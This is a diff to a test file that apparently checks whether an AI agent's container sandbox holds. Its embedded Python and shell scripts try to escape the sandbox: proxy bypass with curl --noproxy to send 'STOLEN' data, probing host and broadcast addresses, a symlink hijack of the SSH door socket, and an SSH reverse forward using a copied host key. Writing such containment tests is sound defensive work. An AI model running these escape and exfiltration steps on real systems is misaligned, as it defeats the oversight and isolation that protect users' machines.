@@ -8,9 +8,10 @@ import { chmodSync } from 'node:fs';
 import { connect, createServer, type AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { serviceOf } from '../../src/credentials/services';
+import { isKubernetes } from '../engine/engines';
 import { Place, buildTimeoutMs } from '../engine/place';
 import { Cai, newWorkspace } from '../engine/support';
-import { attempt, reachedIf } from './attempt';
+import { attempt, attemptWith, reachedIf } from './attempt';
 import { Outside, stolen } from './outside';
 
 const outside = Outside.of();
@@ -25,6 +26,9 @@ beforeAll(async () => {
   place = await new Place(cai).opened();
   open = await new Place(new Cai('egress = "open"\n'), newWorkspace()).opened();
 }, buildTimeoutMs);
+
+/** A pod has one to its node. */
+const interfaces = isKubernetes ? ['eth0', 'lo'] : ['lo'];
 
 /** What of an attack got out or in. */
 async function reachedBy(script: string, from = place): Promise<string | undefined> {
@@ -46,11 +50,12 @@ const eachAddress = (attack: string) => `for address in addresses:
     except OSError as error: print(error)`;
 
 describe('an agent without a network', () => {
-  attempt('an agent reaches a service of the user’s machine that listens on all addresses', () =>
-    reachedByWhatOpenAllows(eachAddress(`print(say('${stolen}', (address, port)))`)),
+  attemptWith('a container with a network')(
+    'an agent reaches a service of the user’s machine that listens on all addresses',
+    () => reachedByWhatOpenAllows(eachAddress(`print(say('${stolen}', (address, port)))`)),
   );
 
-  attempt('an agent sends datagrams to the user’s machine', () =>
+  attemptWith('a container with a network')('an agent sends datagrams to the user’s machine', () =>
     reachedByWhatOpenAllows(`for address in [*addresses, '255.255.255.255', '224.0.0.1', 'ff02::1']:
     try:
         s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
@@ -59,7 +64,7 @@ describe('an agent without a network', () => {
     except OSError as error: print(error)`),
   );
 
-  attempt('an agent pings the user’s machine', () =>
+  attemptWith('a container with a network')('an agent pings the user’s machine', () =>
     reachedByWhatOpenAllows(
       eachAddress(`
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
@@ -69,7 +74,7 @@ describe('an agent without a network', () => {
     ),
   );
 
-  attempt('an agent connects to a public address', async () => {
+  attemptWith('a container with a network')('an agent connects to a public address', async () => {
     const { address } = await lookup(listedHost);
     return await reachedByWhatOpenAllows(`
 try: socket.create_connection(('${address}', 443), 5); print('REACHED')
@@ -110,7 +115,7 @@ for command in ('ip link add evil type dummy', 'ip link add evil type veth', 'ip
     try: done = subprocess.run(command.split(), capture_output=True)
     except OSError: continue
     if done.returncode == 0: print('REACHED', command)
-if os.listdir('/sys/class/net') != ['lo']: print('REACHED', os.listdir('/sys/class/net'))
+if sorted(os.listdir('/sys/class/net')) != ${JSON.stringify(interfaces)}: print('REACHED', os.listdir('/sys/class/net'))
 if os.path.exists('/dev/net/tun'): print('REACHED /dev/net/tun')`),
   );
 
@@ -129,8 +134,10 @@ for address in ('127.0.0.1', '172.17.0.1', *addresses):
         print('REACHED', address, number)`),
   );
 
-  attempt('an agent goes around the proxy with programs that can be told to', () =>
-    reachedByWhatOpenAllows(`url = ['http://[%s]:%d/STOLEN' % (a, port) if ':' in a else 'http://%s:%d/STOLEN' % (a, port) for a in addresses]
+  attemptWith('a container with a network')(
+    'an agent goes around the proxy with programs that can be told to',
+    () =>
+      reachedByWhatOpenAllows(`url = ['http://[%s]:%d/STOLEN' % (a, port) if ':' in a else 'http://%s:%d/STOLEN' % (a, port) for a in addresses]
 for each in url:
     for command in (['curl', '-sS', '-m', '3', '--noproxy', '*'], ['env', '-u', 'http_proxy', '-u', 'HTTP_PROXY', '-u', 'NODE_USE_ENV_PROXY', 'node', '-e', 'fetch(process.argv[1]).catch(() => 0)']):
         subprocess.run([*command, each], capture_output=True)`),
@@ -183,27 +190,33 @@ describe('an agent, of ways in,', () => {
     },
   );
 
-  attempt('an agent has cai connect to a socket of the user’s machine instead of its container', async () => {
-    const path = join(cai.home, 'own.sock');
-    let isReached = false;
-    const server = createServer((socket) => {
-      isReached = true;
-      socket.destroy();
-    }).listen(path);
-    await once(server, 'listening');
-    chmodSync(path, 0o777);
-    const own = await new Place(cai).opened();
-    await own.prints(['ln', '-sf', path, '/run/cai/door/ssh']);
-    const { status } = await own.run(['true']);
-    server.close();
-    if (status === 0) throw new Error('the container was entered: the link is not in the way');
-    return reachedIf(isReached, path);
-  });
+  attemptWith('a socket as the way in')(
+    'an agent has cai connect to a socket of the user’s machine instead of its container',
+    async () => {
+      const path = join(cai.home, 'own.sock');
+      let isReached = false;
+      const server = createServer((socket) => {
+        isReached = true;
+        socket.destroy();
+      }).listen(path);
+      await once(server, 'listening');
+      chmodSync(path, 0o777);
+      const own = await new Place(cai).opened();
+      await own.prints(['ln', '-sf', path, '/run/cai/door/ssh']);
+      const { status } = await own.run(['true']);
+      server.close();
+      if (status === 0) throw new Error('the container was entered: the link is not in the way');
+      return reachedIf(isReached, path);
+    },
+  );
 
   attempt('an agent logs in to the sshd of its container, and has it forward', async () => {
+    const way = isKubernetes
+      ? '-p 2222 agent@127.0.0.1'
+      : "-o 'ProxyCommand=/run/cai/join /run/cai/door/ssh' agent@inside";
     const script = `cd && cp /run/cai/host_key key && chmod 600 key && ssh-keygen -q -t ed25519 -N '' -f own
 for key in key own; do ssh -i $key -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o BatchMode=yes \\
-  -o 'ProxyCommand=/run/cai/join /run/cai/door/ssh' -R 9983:127.0.0.1:${outside.port} agent@inside echo REACHED; done`;
+  -R 9983:127.0.0.1:${outside.port} ${way} echo REACHED; done`;
     const { stdout, stderr } = await place.run(['sh', '-c', script]);
     if (!stderr.includes('Permission denied')) throw new Error(`it could not be tried: ${stderr}`);
     return reachedIf(stdout.includes('REACHED'), stdout.toString());
